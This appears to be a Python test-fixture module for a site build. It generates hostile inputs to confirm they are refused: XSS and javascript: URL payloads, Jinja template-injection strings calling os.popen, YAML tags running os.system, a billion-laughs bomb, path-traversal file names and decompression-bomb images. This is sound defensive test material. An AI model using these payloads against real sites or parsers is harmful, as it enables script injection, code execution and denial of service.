"""Content that somebody might send to harm the build, the site or its readers."""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from support.builders import ARTICLE, GOOD, encoded, scene, staff_page

CANARY = "mahiemdoc"
"""Stands in every piece of code that must not run."""
_CODE = f"document.title='{CANARY}'"
_TEMPLATES = (
    "<script>{code}</script>",
    "<ScRiPt>{code}</sCrIpT>",
    "<script src=//vd.vn/{canary}.js></script>",
    "<img src=x onerror={code}>".replace("<img", "<b"),
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<math><mtext><style><b title='</style><b onclick={code}>'></b></style></mtext></math>",
    "<iframe src='javascript:{code}'></iframe>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<object data='data:text/html,<script>{code}</script>'></object>",
    "<embed src='//vd.vn/{canary}.swf'>",
    "<form action='//vd.vn/{canary}'><input name=a><button>Gửi</button></form>",
    "<video src='//vd.vn/{canary}.mp4' onerror={code}></video>",
    "<audio src=x onerror={code}>",
    "<details open ontoggle={code}><summary>a</summary></details>",
    "<marquee onstart={code}>a</marquee>",
    "<body onload={code}>",
    "<base href='//vd.vn/{canary}/'>",
    "<meta http-equiv=refresh content='0;url=//vd.vn/{canary}'>",
    "<link rel=stylesheet href='//vd.vn/{canary}.css'>",
    "<style>@import '//vd.vn/{canary}.css';</style>",
    "<p style=\"background:url('//vd.vn/{canary}.png')\">a</p>",
    '<div id=__config>{{"base": "//vd.vn/{canary}"}}</div>',
    "<p class='dv-search-dialog md-overlay' id=tim-kiem>{canary}-id</p>",
    "<noscript><p title='</noscript><b onclick={code}>'></noscript>",
    "<template><script>{code}</script></template>",
    "<textarea><script>{code}</script></textarea>",
    "<xmp><script>{code}</script></xmp>",
    "<table background='//vd.vn/{canary}.png'><tr><td>a</td></tr></table>",
    "<b onclick='{code}' onmouseover=\"{code}\">a</b>",
    "<b/onclick={code}/>",
    "<a href='#' onclick={code}>a</a>",
    "<isindex action=//vd.vn/{canary}>",
    "<![CDATA[<script>{code}</script>]]>",
    "<?xml-stylesheet href='//vd.vn/{canary}'?>",
    "</article></main></body><script>{code}</script>",
    "<!--><script>{code}</script>-->",
    "<a name=__config href=#>a</a><form id=__palette></form>",
    'a{{: onclick="{code}" style="color:red" }}',
    '## Kết {{: #__config onclick="{code}" }}',
    '*a*{{: onmouseover="{code}" }}',
    '`a`{{: class="md-overlay" onclick="{code}" }}',
    '<div markdown=1 onclick="{code}">\n\n**a**\n\n</div>',
    "[^1]\n\n[^1]: <script>{code}</script>",
    "| a |\n|---|\n| <script>{code}</script> |",
    "> <b onclick={code}>a</b>",
    "- <script>{code}</script>",
)
_SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    " javascript:{code}",
    "java&#10;script:{code}",
    "&#106;avascript:{code}",
    "jav&#x09;ascript:{code}",
    "&#x6A&#x61vascript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD4=#{canary}",
    "blob:https://vd.vn/{canary}",
    "filesystem:https://vd.vn/{canary}",
    "\x01javascript:{code}",
    "javascript&colon;{code}",
)
JINJA = (
    "{{ config.site_url }}{{ 7 * 191 }}",
    "{% include 'main.html' %}{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ 7 * 191 }}{% endfor %}",
    "{# {{ 7 * 191 }} #}{{ cycler.__init__.__globals__.os.popen('id').read() }}{{ 7 * 191 }}",
)
_YAML = (
    "{key}: !!python/object/apply:os.system ['touch {canary}']",
    "{key}: !!python/name:os.system",
    "{key}: !ENV PATH",
    "{key}: !!binary aGk=",
    "a: &a [1,1,1,1,1,1,1,1,1,1]\n{key}: [*a,*a,*a,*a]",
    "{key}: {{}}",
    "{key}: {{a: {{b: {{c: [1, 2]}}}}}}",
    "{key}: [[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]",
    "<<: {{{key}: x}}",
    "? {key}\n: x",
    "{key}: |2\n   x\n  y",
    "{key}: >-\n",
    "{key}: '\\",
    '{key}: "\\x00\\u0000"',
    "{key}: *khong-co",
    "%TAG ! tag:vd.vn,2023:\n{key}: !x y",
    "{key}: [",
    "{key}: }}",
    "\t{key}: x",
    "{key}: @x",
    "__proto__: x",
    "{key}.__class__: x",
)
_NAMES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\anh.jpg",
    "%2e%2e/%2e%2e/anh.jpg",
    "....//anh.jpg",
    "file:///etc/passwd",
    "http://vd.vn/anh.jpg",
    "~/anh.jpg",
    "$HOME/anh.jpg",
    "`id`.jpg",
    "anh.jpg\\0.png",
    "guong.md",
    "../linh-vuc.md",
    "CON",
    "nul.jpg:stream",
    "a" * 300 + ".jpg",
    "\u202egpj.anh",
    ".",
    "..",
    "-rf",
)
LAUGHS = "\n".join(
    ["a0: &a0 [ha, ha]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12))]
)
"""A thousand million lists, written in 700 characters."""


def harmful_articles() -> Iterator[str]:
    """Yield articles that are published without what would harm."""
    told = {"code": _CODE, "canary": CANARY}
    for template in _TEMPLATES:
        yield template.format(**told)
    yield from JINJA
    yield "<b " * 2_000
    yield "[" * 2_000
    yield "> " * 29 + "a"
    yield "<div>" * 2_000 + "a"


def hostile_links() -> Iterator[str]:
    """Yield articles that are refused for where their links lead."""
    for scheme in _SCHEMES[:9]:
        yield f"[a]({scheme.format(code='1', canary=CANARY).strip()})"
    for scheme in _SCHEMES:
        yield f'<a href="{scheme.format(code="1", canary=CANARY)}">a</a>'


def endless_articles() -> Iterator[str]:
    """Yield articles that would keep the build busy for minutes, or exhaust its stack."""
    for sign in ("<b ", "[", "![a ", "[a](", "*a**b_c__d ", "``a ", "<b>a</b> "):
        yield sign * 20_000
    yield "1. " * 20_000
    yield "> " * 400 + "a"
    yield "- " * 400 + "a"
    yield "Chữ. " * 100_000


def hostile_front_matters() -> Iterator[str]:
    """Yield the text of whole files whose front matter is refused."""
    for key in ("tóm tắt", "năm", "ảnh", "trạng thái", "tiêu đề"):
        kept = {name: value for name, value in GOOD.items() if name != key}
        head = staff_page(kept, "")
        for template in _YAML:
            line = template.format(key=key, canary=CANARY)
            yield head.replace("---\n", f"---\n{line}\n", 1) + ARTICLE
    yield f"---\n{LAUGHS}\n---\n{ARTICLE}"
    yield "---\n" + "a: [" * 5_000 + "\n---\n"
    yield "---\n" + "- " * 5_000 + "\n---\n"
    yield "---\n" + "{a: " * 5_000 + "\n---\n"
    yield "---\ntiêu đề: " + "x" * 1_000_000 + "\n"


def hostile_names() -> tuple[str, ...]:
    """Return what is given as the name of a photo."""
    return _NAMES


def hostile_photos() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the bytes of files called photos, most of which are none."""
    for kind, suffix in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("TIFF", "tif")):
        whole = encoded(scene(600, 400), kind)
        for share in (0.1, 0.5, 0.9):
            yield f"cut-{share}.{suffix}", whole[: int(len(whole) * share)]
        for seed in range(16):
            yield f"mutated-{seed}.{suffix}", _mutated(whole, seed)
    yield "bomb.png", _png(60_000, 60_000)
    yield "wide.png", _png(2_000_000_000, 1)
    yield "large.png", _whole_png(7_900, 7_900)
    yield "larger.png", _whole_png(10_000, 10_000)
    yield "chunks.png", _png(10, 10) + struct.pack(">I", 0x7FFFFFFF) + b"zTXt"
    yield "text.png", _with_text_bomb()
    yield "frames.gif", _frames()
    yield "page.jpg", b"<!doctype html><script>1</script>"
    yield "drawing.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"
    yield "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"
    yield "zip.jpg", b"PK\x03\x04" + bytes(200)
    yield "empty.jpg", b""
    yield "zeros.jpg", bytes(5_000)
    yield "eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n"
    yield "ftyp.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100)


def _mutated(data: bytes, seed: int) -> bytes:
    dice = random.Random(seed)  # noqa: S311 - the same every time
    spoilt = bytearray(data)
    for _ in range(1 + len(data) // 200):
        spoilt[dice.randrange(4, len(spoilt))] = dice.randrange(256)
    return bytes(spoilt)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(width: int, height: int, pixels: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    ends = _chunk(b"IDAT", zlib.compress(pixels or bytes(100), 9)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + ends


def _whole_png(width: int, height: int) -> bytes:
    """Return a whole picture of one colour: a few hundred kilobytes that decode to hundreds."""
    buffer = io.BytesIO()
    Image.new("RGBA", (width, height), (9, 9, 9, 9)).save(buffer, "PNG", compress_level=1)
    return buffer.getvalue()


def _with_text_bomb() -> bytes:
    whole = encoded(scene(60, 40), "PNG")
    bomb = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9))
    return whole[:33] + bomb + whole[33:]


def _frames() -> bytes:
    buffer = io.BytesIO()
    frames = [scene(200, 100, seed) for seed in range(200)]
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()
